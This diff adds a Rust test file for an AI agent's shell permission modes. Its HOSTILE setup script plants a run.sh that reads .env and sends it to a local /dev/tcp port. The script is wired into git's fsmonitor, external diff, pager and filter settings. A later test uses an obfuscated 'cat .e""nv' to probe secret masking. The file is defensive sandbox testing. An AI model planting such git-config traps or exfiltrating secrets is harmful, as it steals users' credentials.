@@ -1,0 +1,94 @@
+//! Commands that run because they are harmless: what they change, reach and show all the same.
+
+use std::fs;
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Command;
+
+use serde_json::{Value, json};
+
+use crate::support::Sandbox;
+
+/// Runs commands in a mode, and returns their results.
+fn results(sandbox: &Sandbox, mode: &str, commands: &[Value]) -> Vec<Value> {
+    let steps = commands.iter().map(|args| {
+        format!("§call: {}\n§execute\n%%\n", json!({"name": "shell", "args": args}))
+    });
+    let script = sandbox.write("script", &(steps.collect::<String>() + "§respond: Done.\n§end"));
+    let model = format!("script:{script}");
+    let said =
+        sandbox.silcrow(&["run", "x", "--model", &model, "--json", "--permissions", mode]);
+    said.ends(0).events().into_iter().filter(|event| event["type"] == "result").collect()
+}
+
+fn prepare(root: &Path, script: &str) {
+    let done = Command::new("bash").args(["-c", script]).current_dir(root).output().unwrap();
+    assert!(done.status.success(), "{done:?}");
+}
+
+/// Makes a repository whose settings run a program, and which brings a bare one.
+const HOSTILE: &str = r#"
+git init -q . && git config user.email a@b && git config user.name a
+echo one > a.txt; mkdir sub; echo two > sub/b.txt; echo .env > .gitignore
+git add . && git commit -qm one && echo three >> a.txt
+echo CANARY > .env; echo CANARY > id_rsa; echo CANARY > sub/.env.local
+printf '#!/bin/bash\ntouch "%s/pwned"\ncat .env\ncat .env > /dev/tcp/127.0.0.1/%s\n' "$PWD" "$PORT" > run.sh
+chmod +x run.sh; P=$PWD/run.sh
+git config core.fsmonitor $P; git config diff.external $P; git config core.pager $P
+git config diff.x.textconv $P; git config filter.x.clean $P; echo '* diff=x filter=x' > .git/info/attributes
+git init -q --bare sub/bare && git -C sub/bare config core.fsmonitor $P
+cp -r .git sub/.git
+"#;
+
+#[test]
+fn harmless_commands_do_no_harm_in_a_hostile_project() {
+    for mode in ["read-only", "ask", "workspace"] {
+        let sandbox = Sandbox::new();
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        prepare(&sandbox.root(), &format!("PORT={port}; {HOSTILE}"));
+        let commands = [
+            "git status", "git diff", "git log -p", "git show", "git blame a.txt", "git grep -n one",
+            "grep -r CAN", "cat *", "ls -la", "wc --files0-from=a.txt",
+        ];
+        let commands: Vec<_> = commands.iter().map(|text| json!({ "command": text })).collect();
+        let given = results(&sandbox, mode, &commands);
+        assert_eq!(given.len(), commands.len());
+        for (command, result) in commands.iter().zip(&given) {
+            assert!(!result.to_string().contains("CANARY"), "{mode}: {command}: {result}");
+            assert_eq!(result["payload"]["status"], "success", "{mode}: {command}: {result}");
+        }
+        assert!(!sandbox.root().join("pwned").exists(), "{mode}: {given:?}");
+        assert!(listener.accept().is_err(), "{mode}");
+        assert!(given[0].to_string().contains("modified:"), "{}", given[0]);
+    }
+}
+
+#[test]
+fn git_in_another_folder_is_not_harmless() {
+    let sandbox = Sandbox::new();
+    prepare(&sandbox.root(), &format!("PORT=1; {HOSTILE}"));
+    for folder in ["sub", "./sub", "sub/bare"] {
+        let args = json!({"command": "git status", "folder": folder});
+        for mode in ["read-only", "ask"] {
+            let given = results(&sandbox, mode, std::slice::from_ref(&args));
+            assert_eq!(given[0]["payload"]["status"], "failure", "{mode}: {}", given[0]);
+        }
+    }
+    let given = results(&sandbox, "read-only", &[json!({"command": "git status", "folder": "."})]);
+    assert_eq!(given[0]["payload"]["status"], "success", "{}", given[0]);
+    assert!(!sandbox.root().join("pwned").exists());
+}
+
+#[test]
+fn a_secret_that_a_command_names_is_shown_in_full_only_without_a_question() {
+    for (mode, shows) in [("read-only", false), ("workspace", false), ("full", true)] {
+        let sandbox = Sandbox::new();
+        fs::write(sandbox.root().join(".env"), "CANARY").unwrap();
+        let commands = [json!({"command": "cat .env"}), json!({"command": "cat .e\"\"nv; true"})];
+        for result in results(&sandbox, mode, &commands) {
+            assert_eq!(result.to_string().contains("CANARY"), shows, "{mode}: {result}");
+        }
+    }
+}
